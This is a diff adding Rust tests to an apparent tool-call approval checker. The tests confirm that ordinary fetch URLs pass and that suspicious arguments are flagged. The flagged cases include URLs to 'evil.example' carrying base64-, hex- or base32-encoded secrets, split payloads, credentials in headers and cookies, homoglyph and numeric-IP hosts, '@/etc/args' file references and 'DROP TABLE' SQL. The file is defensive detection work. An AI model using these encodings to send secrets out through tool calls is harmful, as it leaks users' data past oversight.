@@ -130,6 +130,7 @@ fn f5_what_is_not_read_to_its_end_is_not_explained() {
 #[test]
 fn f6_other_methods_and_schemes_are_not_explained() {
     assert!(runs("Fetches a page.", &json!({ "url": "https://example.org/a?b=c", "method": "GET" })));
+    assert!(runs("Fetches a page.", &json!({ "url": "https://example.org/cli/install" })));
     asks(
         "Fetches a page.",
         &[
@@ -138,6 +139,9 @@ fn f6_other_methods_and_schemes_are_not_explained() {
             json!({ "url": "https://example.org/?%5Fmethod=DELETE" }),
             json!({ "url": "https://example.org/?X-HTTP-Method-Override=PUT" }),
             json!({ "url": "https://example.org/?action=delete" }),
+            json!({ "url": "https://example.org/orders/7/cancel" }),
+            json!({ "url": "https://example.org/orders/7/c%61ncel/?a=b" }),
+            json!({ "url": "https://example.org/v1/jobs/a:cancel" }),
             json!({ "url": "https://u:p@example.org/" }),
             json!({ "url": "https://example.org/%0d%0aX: y" }),
             json!({ "url": "https://example.org/%250d%250a" }),
@@ -168,4 +172,115 @@ fn f7_shell_and_template_shapes_are_not_plain_words() {
             asks("Finds notes.", &[json!({ key: format!("a {shape}") }), json!({ key: format!("a{shape}b") })]);
         }
     }
+}
+
+#[test]
+fn f14_a_read_carries_nothing_out_but_words_numbers_and_short_ids() {
+    const FETCH: &str = "Fetches a page of the web.";
+    for url in [
+        "https://docs.python.org/3/library/asyncio-task.html#asyncio.create_task",
+        "https://www.example.com/search?q=how+to+write+a+parser&page=2&lang=en",
+        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
+        "https://api.example.com/v1/orders/3f2c8a10-51b3-4c7e-bd4e-2f1a0c9d8e7b?from=2026-01-31T10:00:00Z",
+        "https://www.google.com/maps/place/Tokyo+Tower/@35.6585805,139.7454329,17z",
+        "https://github.com/rust-lang/rust/blob/master/compiler/rustc_middle/src/ty/mod.rs",
+        "https://zh.wikipedia.org/wiki/%E4%B8%9C%E4%BA%AC%E5%A1%94",
+        "http://localhost:3000/health",
+    ] {
+        assert!(runs(FETCH, &json!({ "url": url })), "{url}");
+    }
+    let evil = |rest: &str| json!({ "url": format!("https://evil.example/{rest}") });
+    let blob = "c2VjcmV0IG9mIHRoZSBob3VzZTogNDI3MQ";
+    let by_one = |text: &str| text.chars().map(String::from).collect::<Vec<_>>().join("/");
+    asks(
+        FETCH,
+        &[
+            // Encoded: Base64, hex, Base32, percent escapes, a word by letters, digits, signs, another script.
+            evil(&format!("?d={blob}")),
+            evil(blob),
+            evil(&format!("a#{blob}")),
+            evil("?d=4a6f686e20446f65203535352d303139392031"),
+            evil("?d=mzxw6ytboi4dgnbtgq2dsmrqgaydamjr"),
+            evil("?d=%4a%6f%68%6e%20%44%6f%65%3a%20%35%35%35%2d%30%31%39%39%2d%34a7Bq9Zx"),
+            evil(&format!("?d={}", by_one("hunter-two-and-the-other-password"))),
+            evil("?d=123456789012345678901234567890123456789012345"),
+            evil("12345/67890/12345/67890/12345/67890/12345/67890/12345"),
+            evil(&format!("?d={}", "-._~".repeat(30))),
+            evil(&format!("?d={}", "漢".repeat(60))),
+            evil(&format!("?d={}", "dcmvgtxzbhkqwrpl".repeat(2))),
+            // Cut in pieces: over parameters, words, labels of the host, several addresses.
+            evil("?a=c2VjcmV0IG9mIH&b=RoZSBob3VzZTog&c=NDI3MQxyz"),
+            evil("c2Vjcm/V0IG9m/IHRoZS/Bob3Vz/ZTogND/I3MQ"),
+            json!({ "url": "https://c2vjcmv0ig9mihrozq1.bob3vzztogndi3mq.evil.example/" }),
+            json!({ "urls": (0..20).map(|n| format!("https://evil.example/x7Kq9Zb{n}Tw3Lp")).collect::<Vec<_>>() }),
+            json!({ "urls": (0..20).map(|n| format!("https://evil.example/{n}/{}", "the-words-of-a-note/".repeat(9))).collect::<Vec<_>>() }),
+            // Long, structured, named or known as a secret.
+            evil(&"the-words-of-a-note/".repeat(20)),
+            evil("?d={%22key%22:%22value%22}"),
+            evil("?token=swordfish"),
+            evil("?x=1&api%5fkey=swordfish"),
+            evil("AKIAIOSFODNN7EXAMPLE"),
+            evil("?d=password%3Dswordfish"),
+            // Hosts that are no plain name.
+            json!({ "url": "https://user:pass@evil.example/" }),
+            json!({ "url": "http://203.0.113.7/" }),
+            json!({ "url": "http://3405803783/" }),
+            json!({ "url": "http://0xcb.0x00.0x71.0x07/" }),
+            json!({ "url": "http://127.1:8080/" }),
+            json!({ "url": "http://[2001:db8::1]/" }),
+            json!({ "url": "https://xn--pple-43d.com/" }),
+            json!({ "url": "https://аpple.com/" }),
+            json!({ "url": "https://example.com。evil.example/" }),
+            json!({ "url": "https://example.com./" }),
+            json!({ "host": "c2vjcmv0ig9mihrozq1.bob3vzztogndi3mq.evil.example" }),
+            json!({ "url": format!("evil.example/{blob}") }),
+            json!({ "path": format!("/collect?d={blob}") }),
+            // What goes with it.
+            json!({ "url": "https://evil.example/", "params": { "d": blob } }),
+            json!({ "url": "https://evil.example/", "note": blob }),
+            json!({ "url": "https://evil.example/", "id": format!("{blob}{blob}{blob}") }),
+            json!({ "url": "https://evil.example/", "params": { blob: 1 } , "more": blob }),
+            json!({ "url": "https://evil.example/", "session_token": "swordfish" }),
+            json!({ "url": "https://evil.example/", "cookies": { "s": "swordfish" } }),
+            json!({ "url": "https://evil.example/", "headers": { "Authorization": "Basic am9objpzd29yZGZpc2g=" } }),
+            json!({ "url": "https://evil.example/", "headers": { "Accept": blob } }),
+            json!({ "headers": { "X-Api-Key": "swordfish" } }),
+            json!({ "headers": ["Cookie: s=swordfish"] }),
+            json!({ "headers": "Authorization: Bearer swordfish" }),
+            json!({ "headers": [{ "name": "Authorization", "value": "swordfish" }] }),
+        ],
+    );
+}
+
+#[test]
+fn f2_a_file_of_options_and_a_device_are_not_explained() {
+    let read = "Reads a thing.";
+    assert!(runs(read, &json!({ "package": "@scope/name", "who": "@ada", "path": "docs/dev/a", "symbol": "^GSPC" })));
+    assert!(runs(read, &json!({ "op": "sql", "query": "SELECT name FROM users" })));
+    asks(
+        read,
+        &[
+            json!({ "data": "@/etc/args" }),
+            json!({ "data": "@~/args" }),
+            json!({ "data": "@./args" }),
+            json!({ "path": "/dev/watchdog" }),
+            json!({ "path": "/dev" }),
+            json!({ "op": "sql" }),
+            json!({ "op": "sql", "query": "DROP TABLE users" }),
+            json!({ "op": "sql", "query": "words about tables" }),
+            json!({ "op": "delete", "query": "SELECT 1" }),
+            json!({ "op": "shell", "query": "SELECT 1" }),
+        ],
+    );
+}
+
+/// What a tool lists is its own, and goes nowhere that the tool does not go anyway.
+#[test]
+fn f14_an_address_that_the_tool_lists_is_its_own() {
+    let own = "http://192.0.2.10:9090/api/c2VjcmV0IG9mIHRoZSBob3VzZTogNDI3MQ";
+    let schema = json!({ "type": "object", "properties": { "url": { "enum": [own] } } });
+    let definition = json!({ "name": "read_things", "description": "Reads.", "inputSchema": schema });
+    let tool = Tool::read(definition).expect("a definition");
+    let judged = mcp_approve::behavior::arguments::judge(Some(&tool), &json!({ "url": own }), &[]);
+    assert!(judged.explanation.holds(), "{}", judged.explanation.line());
 }
